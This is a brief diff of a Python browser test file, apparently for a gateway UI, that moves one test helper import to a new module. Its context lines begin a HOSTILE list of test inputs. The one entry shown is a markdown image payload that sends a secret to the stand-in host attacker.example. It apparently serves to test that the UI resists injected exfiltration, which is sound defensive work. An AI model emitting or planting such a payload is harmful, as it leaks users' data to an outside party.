@@ -12,7 +12,8 @@ from hypothesis import strategies as st
 from playwright.async_api import Page, expect
 
 from gateway_ui.drawing.plain import label
-from tests.browser import free_port, wait_for_port
+from tests.browser import wait_for_port
+from tests.ports import free_port
 
 HOSTILE = [
     "![x](http://attacker.example/?q=secret)",
